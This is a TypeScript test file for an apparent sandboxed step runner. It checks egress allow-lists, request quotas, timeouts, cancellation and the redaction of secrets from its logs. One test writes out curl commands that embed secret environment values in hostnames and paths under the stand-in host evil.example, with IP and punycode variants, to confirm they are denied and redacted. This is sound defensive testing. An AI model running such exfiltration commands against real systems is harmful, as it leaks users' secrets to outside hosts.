import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import t, { type Test } from "tap";
import { answerOf, Place, processesWith, until } from "./place.ts";

type Outside = { readonly port: number; readonly seen: readonly string[] };

/** A server of this host; `/slow` answers never. */
async function openOutside(t: Test): Promise<Outside> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(`${request.headers.host ?? ""}${request.url ?? ""}`);
    if (request.url !== "/slow") {
      response.end("from outside\n");
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.teardown(() => {
    server.close();
    server.closeAllConnections();
  });
  return { port: (server.address() as AddressInfo).port, seen };
}

const quota = { requests: 10, bytes: "1Mi" };

t.test("a pack with an allow-list reaches what it lists and nothing else, and the evidence says so", async (t) => {
  const { port, seen } = await openOutside(t);
  const rule = { host: "localhost", port, protocol: "http", allowPrivate: true };
  const place = new Place(t);
  place.pack("fetching", {
    sandbox: { egressAllowlist: [rule], egressQuota: quota },
    steps: [
      {
        id: "allowed",
        run: { script: `curl -sSf http://localhost:${port}/hello?token=1 >got` },
        outputs: { got: { file: "got" } },
      },
      {
        id: "other",

        run: { script: `curl -sSf http://other.example:${port}/hello` },
        continueOnError: true,
      },
      {
        id: "narrowed",

        run: { script: "env | grep -ci proxy" },
        sandbox: { egressAllowlist: [] },
        continueOnError: true,
      },
    ],
  });
  const ran = await place.packrun("run", "fetching", "--json");
  const { runId, evidence, steps } = answerOf(ran);
  t.equal(ran.code, 0, ran.err);
  t.strictSame(Object.fromEntries(steps.map(({ id, reason }) => [id, reason])), {
    allowed: null,
    other: "STEP_EXIT",
    narrowed: "STEP_EXIT",
  });
  t.strictSame(seen, [`localhost:${port}/hello?token=1`]);
  const ledger = place.ledger(runId);
  const used = ledger.flatMap(({ stepId, metadata }) => ("egress" in metadata ? [[stepId, metadata.egress]] : []));
  t.match(used, [
    ["allowed", { requests: 1, bytesIn: Number, bytesOut: Number }],
    ["other", { requests: 0, bytesIn: 0, bytesOut: 0 }],
  ]);
  const denied = ledger.filter(({ eventType }) => eventType === "egress.denied");
  t.match(denied, [{ stepId: "other", metadata: { host: "other.example", port, code: "EGRESS_DENIED" } }]);
  const lines = readFileSync(join(evidence ?? "", "egress.jsonl"), "utf8")
    .split("\n")
    .filter(Boolean);
  t.match(
    lines.map((line) => JSON.parse(line) as unknown),
    [
      { stepId: "allowed", host: "localhost", path: "/hello", status: 200, decision: "allowed" },
      { stepId: "other", host: "other.example", decision: "denied" },
    ],
  );
  t.notMatch(lines.join(), /token/);
  const verified = await place.packrun("verify", runId);
  t.equal(verified.code, 0, verified.out + verified.err);
});

t.test("a step that waits for the network is ended by its timeout and by a cancel, and nothing remains", async (t) => {
  const { port, seen } = await openOutside(t);
  const marker = `packrun-waiting-${process.pid}`;
  const place = new Place(t);
  const wait = `: ${marker}; curl -sS http://127.0.0.1:${port}/slow; :`;
  place.pack("waiting", {
    sandbox: { egressAllowlist: [{ host: "127.0.0.1", port, protocol: "http" }], egressQuota: quota },
    steps: [
      { id: "short", run: { script: wait }, timeout: "1s", continueOnError: true },
      { id: "long", run: { script: wait } },
    ],
  });
  const run = place.start(["run", "waiting", "--json"]);
  await until("the second request", () => seen.length === 2);
  t.equal((await place.packrun("cancel", place.lastRun() ?? "")).code, 0);
  const ended = await run.ended;
  t.match(answerOf(ended).steps, [
    { id: "short", reason: "STEP_TIMEOUT" },
    { id: "long", status: "cancelled" },
  ]);
  t.strictSame(processesWith(marker), []);
});

/** Files below a folder in whose bytes this stands. */
function filesWith(folder: string, text: RegExp): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) => {
    const path = join(folder, name);
    return statSync(path).isFile() && text.test(readFileSync(path, "latin1"));
  });
}

t.test("a secret in the name of a host stands nowhere, however hosts are spelled", async (t) => {
  const given = { TOK: "CanarySecretValueABC", NUM: "2886794753", WIDE: "CanäryWord" };
  const heard: string[] = [];
  const outside = createServer();
  outside.on("connect", (asked, socket) => {
    heard.push(asked.url ?? "");
    socket.once("data", () => socket.end("HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n"));
    socket.write("HTTP/1.1 200 OK\r\n\r\n");
  });
  await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
  t.teardown(() => outside.close());
  const place = new Place(t);
  const upstreamProxy = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  place.write("packrun.config.yaml", JSON.stringify({ sandbox: { upstreamProxy } }));
  const asks = [
    "http://$TOK.evil.example/$TOK",
    "https://$TOK.evil.example/",
    "http://$NUM/",
    "http://a.$NUM.evil.example/",
    "http://$WIDE.evil.example/",
    "http://$TOK.good.example/a/$TOK",
    "http://$WIDE.good.example/%43${TOK#C}",
  ];
  place.pack("telling", {
    secrets: { tok: {}, num: {}, wide: {} },
    sandbox: { egressAllowlist: [{ host: "*.good.example", port: 80, protocol: "http" }], egressQuota: quota },
    steps: [
      {
        id: "tells",
        env: { TOK: { secret: "tok" }, NUM: { secret: "num" }, WIDE: { secret: "wide" }, LC_ALL: "C.UTF-8" },
        run: { shell: "bash", script: asks.map((url) => `curl -sS "${url}" || :`).join("\n") },
      },
    ],
  });
  const secrets = ["tok=env:TOK", "num=env:NUM", "wide=env:WIDE"].flatMap((each) => ["--secret", each]);
  const ran = await place.start(["run", "telling", ...secrets, "--format", "ndjson"], given).ended;
  t.equal(ran.code, 0, ran.err);
  t.strictSame(heard, ["canarysecretvalueabc.good.example:80", "xn--canryword-x2a.good.example:80"], "as it was meant");
  const shown = /canarysecret|2886794753|172\.16\.254\.1|can.{1,2}ryword|xn--|-x2a/i;
  t.strictSame(filesWith(place.folder, shown), []);
  t.notMatch(ran.out + ran.err, shown);
  const denied = place.ledger().filter(({ eventType }) => eventType === "egress.denied");
  t.strictSame(
    denied.map(({ metadata }) => "host" in metadata && metadata.host),
    [
      "[redacted:tok].evil.example",
      "[redacted:tok].evil.example",
      "[redacted:num]",
      "a.[redacted:num].evil.example",
      "[redacted:wide].evil.example",
    ],
  );
  const lines = readFileSync(place.runFile(place.lastRun() ?? "", "egress.jsonl"), "utf8")
    .trim()
    .split("\n");
  t.match(lines.map((line) => JSON.parse(line) as unknown).slice(-2), [
    { decision: "allowed", host: "[redacted:tok].good.example", path: "/a/[redacted:tok]" },
    { decision: "allowed", host: "[redacted:wide].good.example", path: "/[redacted:tok]" },
  ]);
  t.match(JSON.stringify(denied), "add [redacted:tok].evil.example:443 to sandbox.egressAllowlist");
  const verified = await place.packrun("verify", "last");
  t.equal(verified.code, 0, verified.out + verified.err);
  t.notMatch(verified.out, shown);
});
